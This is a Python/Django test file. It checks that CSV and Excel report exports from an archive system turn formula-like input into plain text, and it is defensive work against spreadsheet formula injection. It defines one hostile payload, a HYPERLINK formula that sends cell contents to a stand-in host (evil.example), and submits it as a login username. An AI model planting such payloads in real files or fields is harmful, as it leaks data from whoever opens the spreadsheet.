"""Exports never carry a live formula (security issue, item 5): text that a
spreadsheet would run is written as text, in CSV and in Excel, readably."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from archives.models import ArchiveRecord
from reports.models import MonthlyReport  # noqa: F401 - the report's table exists

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'

pytestmark = pytest.mark.django_db


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(response) -> list[list[str]]:
    import csv

    text = _content(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx_cells(response):
    data = _content(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_a_user_name_typed_at_login_reaches_the_audit_export_as_text(client, world):
    """A failed login by someone not logged in: the auditor's CSV shows the
    name with a leading apostrophe, the Excel file as a text cell."""
    client.post(reverse("accounts:login"), {"username": HOSTILE, "password": "x"})
    client.force_login(world.auditor)
    csv_cells = _csv_cells(client.get(reverse("reports:export", args=["audit", "csv"])))
    flat = [cell for row in csv_cells for cell in row]
    assert "'" + HOSTILE in flat
    assert HOSTILE not in flat
    cells = _xlsx_cells(client.get(reverse("reports:export", args=["audit", "xlsx"])))
    hostile = [c for c in cells if c.value == HOSTILE]
    assert hostile, "the name is in the export, as typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_catalogue_titles_that_look_like_formulas_are_exported_as_text(
    client, world, start
):
    title = f"{start}1+2 客户来电"
    ArchiveRecord.objects.filter(pk=world.own.pk).update(title=title)
    client.force_login(world.archivist)
    url = reverse("reports:export", args=["catalogue", "csv"])
    flat = [cell for row in _csv_cells(client.get(url)) for cell in row]
    assert "'" + title in flat
    assert title not in flat
    url = reverse("reports:export", args=["catalogue", "xlsx"])
    cells = [
        c
        for c in _xlsx_cells(client.get(url))
        if isinstance(c.value, str) and c.value.endswith("1+2 客户来电")
    ]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    # Ordinary text is left exactly as it was.
    assert world.cs2_record.title in flat
